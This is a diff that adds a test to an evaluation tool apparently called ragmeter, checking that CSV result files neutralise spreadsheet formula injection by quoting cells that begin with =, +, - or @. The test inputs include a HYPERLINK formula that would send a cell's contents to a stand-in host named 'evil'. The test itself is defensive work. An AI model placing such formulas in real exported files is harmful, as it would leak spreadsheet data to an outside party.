@@ -69,3 +69,24 @@ def test_result_files_follow_the_umask(tmp_path: Path):
         os.umask(old)
     assert path.stat().st_mode & 0o777 == 0o644
     assert (path.parent / "manifest.json").stat().st_mode & 0o777 == 0o644
+
+
+def test_csv_results_neutralise_formulas_and_read_back_unchanged(tmp_path):
+    """Cells beginning =, +, -, @ ran as spreadsheet formulas (issue 37, item 20)."""
+    import csv
+
+    from ragmeter.results.runs import load_run
+    from tests.cli_runner import run_cli
+
+    hostile = ['=HYPERLINK("http://evil/?"&A1,"x")', "+1+1", "-2+3", "@SUM(A1)", "plain answer"]
+    data = tmp_path / "d.jsonl"
+    data.write_text("".join(json.dumps({"id": f"r{i}", "user_input": "q?", "response": text, "reference": text})
+                            + "\n" for i, text in enumerate(hostile)))
+    assert run_cli("evaluate", str(data), "--metrics", "exact_match", "--format", "csv",
+                   "--out", str(tmp_path / "run")).returncode == 0
+    with (tmp_path / "run" / "results.csv").open(newline="") as handle:
+        cells = [row["response"] for row in csv.DictReader(handle)]
+    assert cells == ["'" + t for t in hostile[:4]] + ["plain answer"]  # quoted as OWASP recommends
+    run = load_run(tmp_path / "run")
+    assert [row["response"] for row in run.rows] == hostile  # ragmeter reads its own results back unchanged
+    assert run.scores["exact_match"] == [1.0] * 5
